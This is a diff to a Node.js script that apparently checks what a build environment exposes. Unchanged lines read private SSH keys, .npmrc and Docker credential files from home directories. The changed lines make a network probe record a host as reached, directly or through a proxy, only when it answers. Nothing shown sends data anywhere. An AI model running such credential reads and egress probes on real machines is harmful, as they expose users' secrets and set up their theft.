@@ -21,7 +21,8 @@ for (const home of ['/root', process.env.HOME || '/']) {
   for (const file of ['.ssh/id_rsa', '.ssh/id_ed25519', '.npmrc', '.docker/config.json']) look(file, read(`${home}/${file}`));
 }
 
-// One connection: direct, or through the proxy that the build is told of.
+// One connection: direct, or through the proxy that the build is told of. An answer counts, not that the connection was
+// taken: what stands between a build and the network takes it first, and resets it once it knows where it was to go.
 function attempt(name, options, hello) {
   return new Promise((resolve) => {
     const socket = net.connect(options);
@@ -29,11 +30,12 @@ function attempt(name, options, hello) {
     socket.setTimeout(3000, end);
     socket.on('error', end);
     socket.on('close', end);
-    if (!hello) socket.on('connect', () => { found.push(`reached ${name}`); end(); });
-    else {
-      socket.on('connect', () => socket.write(hello));
-      socket.on('data', (data) => { if (/^HTTP\/1\.. 2/.test(data)) found.push(`reached ${name} by proxy`); end(); });
-    }
+    socket.on('connect', () => socket.write(hello || 'GET / HTTP/1.0\r\n\r\n'));
+    socket.on('data', (data) => {
+      if (!hello) found.push(`reached ${name}`);
+      else if (/^HTTP\/1\.. 2/.test(data)) found.push(`reached ${name} by proxy`);
+      end();
+    });
   });
 }
 
